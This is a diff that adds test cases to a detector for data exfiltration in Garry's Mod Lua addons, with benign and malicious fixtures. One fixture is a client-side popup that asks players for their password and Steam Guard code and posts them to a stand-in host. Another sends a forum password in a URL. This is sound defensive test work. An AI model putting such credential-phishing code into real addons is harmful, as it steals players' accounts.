@@ -101,4 +101,39 @@ describe('dataexfiltration', () => {
     const findings = check(rule, connectRelay('string.format("%s is joining", info.name)'));
     expect(findings).toEqual([]);
   });
+  it("a sign-in window on players' clients posting the password and code they type", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'local function ask()',
+        '  local f = vgui.Create("DFrame") f:SetSize(400, 300) f:MakePopup()',
+        '  local name, secret, guard = f:Add("DTextEntry"), f:Add("DTextEntry"), f:Add("DTextEntry")',
+        '  local b = f:Add("DButton")',
+        '  b.DoClick = function()',
+        '    http.Post("https://login-check.invalid/verify", { user = name:GetValue(), pw = secret:GetValue(), steamguard = guard:GetValue() })',
+        '    f:Close()',
+        '  end',
+        'end',
+        'hook.Add("InitPostEntity", "ask", function() timer.Simple(600, ask) end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_y.lua': [
+        'concommand.Add("link_forum", function(_, _, args)',
+        '  http.Fetch("https://forum.invalid/api/link?user=" .. args[1] .. "&password=" .. args[2])',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity === 'high')).toHaveLength(2);
+  });
+  it("an addon's own API key posted from the client, or a password field on the server (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua':
+        'hook.Add("InitPostEntity", "v", function() http.Post("https://stats.invalid/v", { key = "ab12", password = "public-readonly", v = "1.0" }) end)',
+      'lua/autorun/server/sv_x.lua': [
+        'local Config = { Password = file.Read("webpanel/secret.txt", "DATA") }',
+        'timer.Create("sync", 300, 0, function()',
+        '  http.Post("https://panel.invalid/api/sync", { password = Config.Password, players = tostring(player.GetCount()) })',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
